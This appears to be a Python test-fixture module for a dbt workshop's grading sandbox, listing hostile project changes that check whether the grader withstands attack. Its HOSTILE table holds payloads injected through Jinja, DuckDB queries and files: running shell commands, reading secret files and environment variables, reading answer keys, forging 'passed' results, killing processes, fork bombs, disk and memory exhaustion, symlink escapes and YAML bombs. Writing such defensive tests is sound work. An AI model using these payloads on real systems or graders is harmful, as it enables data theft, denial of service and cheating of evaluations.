"""Projects that want to harm whoever judges them. Each is a good project, changed.

The test fills in: OUTSIDE is a folder beside the projects, PORT is where somebody listens, SECRET is a file with a word
that nobody may see, PROJECT is the project itself, and GOOD the neighbour's.
"""

import os
import shutil
from collections.abc import Callable
from pathlib import Path

ORDERS = "models/marts/core/fct_orders.sql"
PAYMENTS = "models/staging/stripe/stg_payments.sql"
SOURCES = "models/staging/jaffle_shop/src_jaffle_shop.yml"
DOCS = "models/staging/jaffle_shop/jaffle_shop.md"

Change = Callable[[Path], object]

CALL = "{{ evil_materialization() }}"
MARK = "open('OUTSIDE/mark', 'w').write('x')"


def said(what: str) -> str:
    """Python that brings what it has seen into the verdict."""
    return (
        f"import workshop.dbt_project.trouble as trouble\nseen = {what}\n"
        "trouble.first_line = trouble.all_of_it = lambda text: seen\nraise ValueError"
    )


def macro(code: str, name: str = "macro evil_materialization()", end: str = "endmacro") -> str:
    """dbt runs Python in a statement, where the macro around it has a name that ends so."""
    return (
        "{% " + name + " %}{% do run_query('select 1') %}{% call statement('evil', language='python') %}{% raw %}\n"
        "import os, sys, time, signal, socket, ctypes, subprocess, threading\n"
        + code
        + "\ndef model(dbt, session):\n    return None\n{% endraw %}{% endcall %}{% "
        + end
        + " %}\n"
    )


def written(file: str, text: str) -> Change:
    def change(project: Path) -> None:
        (project / file).parent.mkdir(parents=True, exist_ok=True)
        (project / file).write_text(text)

    return change


def before(file: str, text: str) -> Change:
    return lambda project: written(file, text + (project / file).read_text())(project)


def all_of(*changes: Change) -> Change:
    return lambda project: [change(project) for change in changes]


def python(code: str) -> Change:
    """Runs when dbt compiles a model."""
    return all_of(written("macros/evil.sql", macro(code)), before(ORDERS, CALL))


def query(sql: str) -> Change:
    """Is asked of DuckDB when dbt compiles a model."""
    return before(ORDERS, '{% do run_query("' + sql + '") %}')


def model(sql: str) -> Change:
    return written(PAYMENTS, sql)


def replaced(file: str, old: str, new: str) -> Change:
    def change(project: Path) -> None:
        text = (project / file).read_text()
        assert old in text
        (project / file).write_text(text.replace(old, new))

    return change


def linked(file: str, to: str) -> Change:
    def change(project: Path) -> None:
        path = project / file
        shutil.rmtree(path) if path.is_dir() else path.unlink(missing_ok=True)
        path.parent.mkdir(parents=True, exist_ok=True)
        path.symlink_to(to.replace("OUTSIDE", str(project.parent / "outside")).replace("SECRET", secret(project)))

    return change


def secret(project: Path) -> str:
    return str(project.parent / "outside" / "secret.txt")


def fifo(file: str) -> Change:
    def change(project: Path) -> None:
        (project / file).unlink(missing_ok=True)
        os.mkfifo(project / file)

    return change


def many_files(project: Path) -> None:
    folder = project / "models/many"
    folder.mkdir()
    for number in range(100_000):
        os.close(os.open(folder / f"m{number}.sql", os.O_CREAT | os.O_WRONLY))


def gigabyte(file: str) -> Change:
    def change(project: Path) -> None:
        with (project / file).open("wb") as hole:
            hole.truncate(2**30)

    return change


def deep_folders(project: Path) -> None:
    (project / ("models/" + "d/" * 60)).mkdir(parents=True)


BOMB = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
    f"{chr(98 + n)}: &{chr(98 + n)} [{','.join(['*' + chr(97 + n)] * 9)}]\n" for n in range(9)
)
TEST = "      - name: order_id\n        data_tests:\n          - accepted_values:\n              arguments:\n"
ROWS = (
    "select range as payment_id, 1 as order_id, 'x' as payment_method, 'success' as status, 1.0 as amount, "
    "date '2025-01-01' as created_at from range({})"
)
FORK_BOMB = "while True:\n    try: os.fork()\n    except OSError: break"

HOSTILE: dict[str, Change] = {
    # Python by Jinja, in five places
    "python in a model": python(MARK),
    "python in a generic test": all_of(
        written("macros/evil.sql", macro(MARK, "test evil_materialization(model)", "endtest")),
        written("models/evil.yml", "models:\n  - name: fct_orders\n    data_tests:\n      - evil_materialization\n"),
    ),
    "python in a singular test": all_of(
        written("macros/evil.sql", macro(MARK)), written("tests/evil.sql", f"{CALL} select 1 limit 0")
    ),
    "python in docs": all_of(
        written("macros/evil.sql", macro(MARK)), before(DOCS, "{% docs evil %}" + CALL + "{% enddocs %}\n")
    ),
    "python in YAML": all_of(
        written("macros/evil.sql", macro(MARK)),
        written("models/evil.yml", 'models:\n  - name: fct_orders\n    config: {alias: "' + CALL + '"}\n'),
    ),
    "python in dbt_project.yml": all_of(
        written("macros/evil.sql", macro(MARK)), before("dbt_project.yml", 'on-run-start: "' + CALL + '"\n')
    ),
    "a macro of dbt's is another": all_of(
        written(
            "macros/evil.sql",
            macro(MARK) + "{% macro generate_alias_name(a=none, node=none) %}" + CALL + "x{% endmacro %}",
        )
    ),
    # what Python does then
    "runs a command": python("subprocess.run(['/bin/sh', '-c', 'echo x > OUTSIDE/mark'])"),
    "reads a file": python(said("open('SECRET').read()")),
    "reads the environment": python(said("str(dict(os.environ))")),
    "reads the environment of its parent": python(said("open(f'/proc/{os.getppid()}/environ').read()")),
    "writes into its project": python("open('PROJECT/models/x.sql', 'w').write('x')"),
    "writes into the neighbour's project": python("open('GOOD/models/x.sql', 'w').write('x')"),
    "removes a file": python("os.unlink('SECRET')"),
    "writes into the workshop": python("import workshop; open(workshop.__file__, 'a').write('# x')"),
    "reads the answers": python(
        said("'SE' + 'EN' + str(__import__('workshop.course.reference').course.reference.answers())")
    ),
    "reads the solutions": python(
        said("'SE' + 'EN' + next(__import__('workshop.places').places.SOLUTIONS.glob('*.ipynb')).read_text()")
    ),
    "asks the network": python("socket.create_connection(('127.0.0.1', PORT), 2)"),
    "asks the network by the C library": python(
        "c = ctypes.CDLL(None); s = c.socket(2, 1, 0)\n"
        "a = (2).to_bytes(2, 'little') + int('PORT').to_bytes(2, 'big') + bytes([127, 0, 0, 1]) + bytes(8)\n"
        "c.connect(s, a, 16)"
    ),
    "kills its parent": python("os.kill(os.getppid(), signal.SIGKILL)"),
    "kills everybody": python("os.kill(-1, signal.SIGKILL)"),
    "forks without end": python(FORK_BOMB),
    "leaves a process behind": python(f"if os.fork() == 0:\n    os.setsid(); time.sleep(2); {MARK}; os._exit(0)"),
    "starts threads without end": python("while True: threading.Thread(target=time.sleep, args=(99,)).start()"),
    "takes all memory": python("x = []\nwhile True: x.append(bytearray(10**8))"),
    "fills the disk": python("for n in range(10**6):\n    open(f'f{n}', 'wb').write(bytes(10**7))"),
    "answers in dbt's place": python(
        'for fd in range(3, 40):\n    try: os.write(fd, b\'{"exercise": "orders", "outcome": "passed"}\\n\' * 9)\n'
        "    except OSError: pass"
    ),
    "says very much": python(
        "for fd in range(3, 40):\n    try:\n        while True: os.write(fd, b'x' * 10**6)\n    except OSError: pass"
    ),
    "ends at once": python("os._exit(0)"),
    "crashes": python("ctypes.string_at(0)"),
    "sleeps": python("time.sleep(10**6)"),
    # SQL, while dbt compiles
    "query writes a file": query("copy (select 1) to 'OUTSIDE/mark'"),
    "query reads a file": query("select error(content) from read_text('SECRET')"),
    "query attaches a file": query("attach 'OUTSIDE/mark' as mark"),
    "query installs an extension": query("install httpfs from 'http://127.0.0.1:PORT'"),
    "query asks the network": query("select * from 'http://127.0.0.1:PORT/x.csv'"),
    "the environment by env_var": before(
        ORDERS, "{{ exceptions.raise_compiler_error(env_var('WORKSHOP_TEST_SECRET')) }}"
    ),
    # SQL, while it is judged
    "model reads a file": model("select error(content) as payment_id from read_text('SECRET')"),
    "model closes our parenthesis": model("select 1); copy (select 1) to 'OUTSIDE/mark'; select * from (select 1"),
    "model without end": model(
        "with recursive n as (select 1 as i union all select i + 0 from n) select count(*) from n"
    ),
    "model of 4 GiB of rows": model(ROWS.format(2**32) + " order by hash(range)"),
    "model of long words": model("select levenshtein(repeat('a', 1000000), repeat('b', 1000000)) as payment_id"),
    "freshness reads a file": replaced(
        SOURCES, "warn_after", "filter: \"(select content from read_text('SECRET')) is not null\"\n        warn_after"
    ),
    # files
    "a model is a link out": linked(ORDERS, "SECRET"),
    "models is a link to the neighbour's": linked("models", "../good/models"),
    "notes are a link to a device": linked("notes/grain.yml", "/dev/zero"),
    "a model is a FIFO": fifo(ORDERS),
    "notes are a FIFO": fifo("notes/grain.yml"),
    "a model of 1 GiB": gigabyte(ORDERS),
    "docs of 1 GiB": gigabyte(DOCS),
    "100,000 files": many_files,
    "folders without end": deep_folders,
    # very much of little
    "a loop of a thousand million": before(
        ORDERS, "{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}"
    ),
    "a large number": before(ORDERS, "{{ 10 ** (10 ** 9) }}"),
    "a YAML bomb": written("models/bomb.yml", BOMB),
    "notes are a YAML bomb": written("notes/grain.yml", BOMB),
    "a macro that calls itself": all_of(
        written("macros/evil.sql", "{% macro evil() %}{{ evil() }}{% endmacro %}"), before(ORDERS, "{{ evil() }}")
    ),
    "deep parentheses": model("select " + "(" * 50_000 + "1" + ")" * 50_000),
    "deep YAML": written("models/deep.yml", "a: " + "[" * 20_000),
}
